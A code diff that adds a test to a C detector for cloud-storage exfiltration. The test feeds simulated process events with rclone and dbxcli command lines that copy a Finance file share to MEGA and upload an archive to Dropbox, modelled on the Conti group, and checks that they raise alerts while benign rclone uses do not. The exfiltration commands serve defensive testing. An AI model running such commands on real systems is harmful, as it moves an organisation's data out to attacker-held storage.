@@ -1,7 +1,7 @@
 /* test_cloud_upload.c: the cloud-upload detector with the shipped data/detect.conf: a storage
  * service's address learned from a TLS SNI, then a host's day of uploads to it judged on
  * min_bytes and its own history; names not listed, addresses never named, internal
- * destinations stay quiet; the history survives a restart. */
+ * destinations stay quiet; the history survives a restart; upload tools started to upload. */
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -92,10 +92,41 @@ static void test_uploads(const ts_config *cfg)
     det_close(&x);
 }
 
+static void start(det *x, const char *image, const char *cmd)
+{
+    ts_event ev;
+    win(&ev, "windows.sysmon", 1, "FS1", T0);
+    ev.process = ts_str_c(image);
+    ev.command_line = ts_str_c(cmd);
+    feed(x, &ev);
+}
+
+/* Upload tools started with an upload command (Conti's rclone to MEGA, dbxcli to Dropbox). */
+static void test_tools(const ts_config *cfg)
+{
+    det x;
+    CHECK(det_open(&x, "cloud-upload", cfg));
+    start(&x, "C:\\ProgramData\\rclone.exe",
+          "rclone.exe copy \"\\\\fs-01\\Finance\" mega:data -q --ignore-existing --transfers 12");
+    const ts_alert *a = find_key("cloud-upload|tool|FS1|rclone.exe");
+    CHECK(a && !strcmp(a->techniques, "T1567.002") && a->severity == 60);
+    drop_all();
+    start(&x, "C:\\Windows\\Temp\\dbxcli.exe", "dbxcli.exe put C:\\Windows\\Temp\\a.rar /a.rar");
+    CHECK(find_key("cloud-upload|tool|FS1|dbxcli.exe") != NULL);
+    drop_all();
+    /* Listing a remote, configuring, or another program naming rclone: no upload. */
+    start(&x, "C:\\ProgramData\\rclone.exe", "rclone.exe lsd mega:");
+    start(&x, "C:\\ProgramData\\rclone.exe", "rclone.exe config create mega mega user x");
+    start(&x, "C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\rclone copy notes.txt");
+    CHECK_INT(n_got, 0);
+    det_close(&x);
+}
+
 int main(void)
 {
     ts_config *cfg = shipped_config();
     test_uploads(cfg);
+    test_tools(cfg);
     ts_config_free(cfg);
     return check_done("test_cloud_upload");
 }
